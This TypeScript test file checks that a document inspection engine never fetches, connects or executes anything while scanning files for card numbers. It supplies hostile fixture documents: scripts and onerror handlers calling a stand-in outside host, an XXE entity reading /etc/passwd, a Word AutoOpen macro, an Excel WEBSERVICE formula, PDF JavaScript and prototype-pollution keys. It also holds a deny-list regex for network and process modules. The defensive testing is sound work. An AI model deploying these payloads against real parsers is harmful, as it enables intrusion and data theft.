import { globSync, readFileSync } from 'node:fs';
import { Socket } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { inspected, placesOf } from './documents/inspected.ts';
import { docxOf, paragraph, relationships, xlsxOf } from './documents/office.ts';
import { pdfOf } from './documents/pdf.ts';
import { tarOf } from './documents/tar.ts';
import { CARD_GROUPED } from './documents/values.ts';
import { zipOf } from './documents/zip.ts';

const CARD_TEXT = `card ${CARD_GROUPED}`;
const OUTSIDE = 'http://203.0.113.7/outside';
const SCRIPT = `globalThis.scriptRan = true; fetch('${OUTSIDE}')`;

/** A document of each format that asks its reader to fetch something or to run something. */
const ASKING: Readonly<Record<string, () => Promise<Buffer> | string>> = {
  html: () =>
    `<html><base href="${OUTSIDE}/"><link rel="stylesheet" href="a.css"><script>${SCRIPT}</script><img src="${OUTSIDE}" onerror="${SCRIPT}"><iframe src="${OUTSIDE}"></iframe><p>${CARD_TEXT}</p></html>`,
  xml: () =>
    `<?xml version="1.0"?><?xml-stylesheet href="${OUTSIDE}.xsl"?><!DOCTYPE r SYSTEM "${OUTSIDE}.dtd" [<!ENTITY % p SYSTEM "${OUTSIDE}"> %p; <!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x; ${CARD_TEXT}</r>`,
  svg: () =>
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script><image href="${OUTSIDE}"/><text>${CARD_TEXT}</text></svg>`,
  docx: () =>
    docxOf(paragraph(CARD_TEXT), {
      'word/_rels/document.xml.rels': relationships([
        ['rId1', 'attachedTemplate', `!${OUTSIDE}.dotm`],
        ['rId2', 'image', `!${OUTSIDE}.png`],
      ]),
      'word/vbaProject.bin': Buffer.from(`Sub AutoOpen()\n${SCRIPT}\nEnd Sub`),
    }),
  xlsx: () =>
    xlsxOf({
      A: `<row r="1"><c r="A1"><f>WEBSERVICE("${OUTSIDE}")</f><v>${CARD_TEXT}</v></c></row>`,
    }),
  pdf: () => pdfOf([CARD_TEXT], (document) => document.addJavaScript('open', SCRIPT)),
  eml: () =>
    `From: a@initech.io\r\nTo: b@initech.io\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src="${OUTSIDE}"><script>${SCRIPT}</script>${CARD_TEXT}`,
  zip: () => zipOf({ 'page.html': `<html><script src="${OUTSIDE}"></script>${CARD_TEXT}</html>` }),
};

describe('a document cannot make its reader', () => {
  beforeEach(() => {
    vi.spyOn(Socket.prototype, 'connect').mockImplementation(() => {
      throw new Error('connected');
    });
    vi.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('fetched'));
  });
  afterEach(() => vi.restoreAllMocks());

  test.each(Object.keys(ASKING))('fetch or run anything: %s', async (format) => {
    const result = await inspected(await ASKING[format]!());

    expect(placesOf(result)).not.toEqual([]);
    expect(JSON.stringify(result)).not.toContain('root:');
    expect(Socket.prototype.connect).not.toHaveBeenCalled();
    expect(globalThis.fetch).not.toHaveBeenCalled();
    expect('scriptRan' in globalThis).toBe(false);
  });
});

test('nothing in the engine can reach a network, a process or an interpreter', () => {
  const root = join(import.meta.dirname, '../../../shared/inspection');
  const reaching =
    /from '(?:node:)?(?:https?|http2|net|tls|dgram|dns|child_process|cluster|vm|inspector)['/]|\bfetch\(|\beval\(|new Function\b/;

  const files = globSync('**/*.ts', { cwd: root });
  const offending = files.filter((file) => reaching.test(readFileSync(join(root, file), 'utf8')));

  expect(files.length).toBeGreaterThan(100);
  expect(offending).toEqual([]);
});

describe('names in a document that mean something to JavaScript', () => {
  const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
  const ownNames = () =>
    [Object.prototype, Array.prototype, Map.prototype].map((each) => Reflect.ownKeys(each));

  const documents: Readonly<Record<string, () => Promise<Buffer> | Buffer | string>> = {
    'keys of JSON': () => `{${NAMES.map((name) => `"${name}":{"${name}":"${CARD_TEXT}"}`).join()}}`,
    'columns of CSV': () =>
      `${NAMES.join()}\n${NAMES.map(() => CARD_TEXT).join()}\n${NAMES.map(() => 'x').join()}\n`,
    'elements and attributes of XML': () =>
      `<?xml version="1.0"?><r>${NAMES.map((name) => `<${name} ${name}="1">${CARD_TEXT}</${name}>`).join('')}</r>`,
    'members of a ZIP': () => zipOf(Object.fromEntries(NAMES.map((name) => [`${name}/${name}`, CARD_TEXT]))),
    'members of a TAR': () => tarOf(Object.fromEntries(NAMES.map((name) => [`${name}/${name}`, CARD_TEXT]))),
    'sheets of a workbook': () =>
      xlsxOf(
        Object.fromEntries(
          NAMES.map((name) => [`${name} `, `<row r="1"><c r="A1" t="str"><v>${CARD_TEXT}</v></c></row>`]),
        ),
      ),
    'headers of a message': () =>
      `From: a@initech.io\r\nTo: b@initech.io\r\n${NAMES.map((name) => `${name}: ${CARD_TEXT}\r\n`).join('')}Subject: ${CARD_TEXT}\r\n\r\n${CARD_TEXT}`,
  };

  test.each(Object.keys(documents))('as %s are names like any other', async (kind) => {
    const before = ownNames();

    const result = await inspected(await documents[kind]!());

    expect(placesOf(result)).not.toEqual([]);
    expect(ownNames()).toEqual(before);
  });
});
